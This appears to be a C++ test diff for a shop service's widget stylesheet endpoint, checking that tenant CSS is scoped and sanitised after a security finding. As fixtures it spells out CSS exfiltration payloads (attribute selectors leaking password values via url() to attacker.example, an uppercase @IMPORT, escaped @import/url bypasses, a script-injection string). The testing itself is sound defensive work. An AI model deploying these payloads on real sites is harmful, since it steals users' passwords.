@@ -10,6 +10,7 @@
 
 #include "ChildProcess.hpp"
 #include "ServerFixture.hpp"
+#include "store/SqliteDatabase.hpp"
 #include "store/SqliteWidgetSettingsStore.hpp"
 
 using namespace svc;
@@ -151,6 +152,51 @@ TEST_CASE("widgets.css: the base stylesheet plus the tenant's CSS, cacheable; ot
     CHECK(unknown->status == 404);
 }
 
+// Issue 18, finding 11: a tenant's CSS matched the shop's page (the password field's value,
+// byte by byte, through background urls to another host). Served, it now matches inside the
+// widgets only; CSS stored before the checks is served without what they refuse, never raw.
+TEST_CASE("widgets.css: the operator's CSS is scoped to the widgets; CSS stored before the checks is served without what they refuse") {
+    PresentationFixture f;
+    auto store = f.store();
+    WidgetSettingsChange css;
+    css.css = "input[type=password] { background-color: red }\n.svc-card { border-color: red }\n";
+    REQUIRE(store->change(f.shop.id, css, 0));
+    auto client = f.server.client();
+    auto mine = client.Get("/" + f.shop.apiId + "/widgets.css");
+    REQUIRE(mine);
+    CHECK(mine->status == 200);
+    std::string tenantPart = mine->body.substr(mine->body.find("/* The operator's CSS"));
+    CHECK(tenantPart.find("\n.svc-widget input[type=\"password\"] { background-color: red }\n") != std::string::npos);
+    CHECK(tenantPart.find("\n.svc-widget .svc-card { border-color: red }\n") != std::string::npos);
+    CHECK(mine->body.find("\ninput[type=password]") == std::string::npos);
+
+    // Stored by an older svc, which checked only for a lower-case "@import".
+    const std::string legacy =
+        "@IMPORT url(https://attacker.example/x.css);\n"
+        "input[type=password][value^=a] { background: url(https://attacker.example/a) }\n"
+        "body:has(input[value^=b]) { background: red }\n"
+        "@font-face { font-family: Leak; src: url(https://attacker.example/f.woff) }\n"
+        ".svc-card__name { color: navy !important }\n";
+    {
+        auto db = SqliteDatabase::open(f.dir.path() + "/svc.sqlite3");
+        REQUIRE(db);
+        auto insert = (*db)->prepare("INSERT INTO widget_settings(tenant_id, css, updated_at) VALUES (?, ?, 0)");
+        REQUIRE(insert);
+        insert->bind(1, f.other.id).bind(2, legacy);
+        REQUIRE(insert->run());
+    }
+    auto theirs = client.Get("/" + f.other.apiId + "/widgets.css");
+    REQUIRE(theirs);
+    CHECK(theirs->status == 200);
+    CHECK(theirs->body.find("attacker.example") == std::string::npos);
+    CHECK(theirs->body.find("@IMPORT") == std::string::npos);
+    size_t theirPart = theirs->body.find("/* The operator's CSS");
+    REQUIRE(theirPart != std::string::npos);
+    CHECK(theirs->body.substr(theirPart) ==
+          "/* The operator's CSS for this shop, scoped to its widgets (docs/adr/0058) */\n"
+          ".svc-widget .svc-card__name { color: navy !important }\n");
+}
+
 TEST_CASE("tenant widgets and tenant texts: the CLI sets, shows and refuses bad input naming it, changing nothing") {
     test::TempDir dir;
     auto created = runCli(dir, {"tenant", "create", "--data-dir", dir.path(), "--name", "Shop"});
@@ -189,6 +235,10 @@ TEST_CASE("tenant widgets and tenant texts: the CLI sets, shows and refuses bad 
     refused.push_back({widgets({"--country", "Germany"}), "--country: 'Germany' is not a two-letter"});
     refused.push_back({widgets({"--default-language", "German"}), "--default-language: 'German' is not"});
     refused.push_back({widgets({"--css-file", dir.file("bad.css", "</style><script>alert(1)</script>")}), "--css-file: contains '<'"});
+    refused.push_back({widgets({"--css-file", dir.file("leak.css", ".svc-card { color: red }\n@\\69mport 'https://x.example/y.css';")}),
+                       "--css-file: line 2, column 1: @import is not allowed"});
+    refused.push_back({widgets({"--css-file", dir.file("leak.css", "input[value^=a] { background: u\\72l(https://x.example/a) }")}),
+                       "--css-file: line 1, column 31: url(\"https://x.example/a\") leaves svc"});
     refused.push_back({texts("fr", R"({"addToCart": "Ajouter", "addToKart": "x"})"), "texts.addToKart: unknown text key"});
     refused.push_back({texts("fr", R"({"addToCart": 3})"), "texts.addToCart: must be a string"});
     refused.push_back({texts("French", R"({"addToCart": "x"})"), "language: 'French'"});
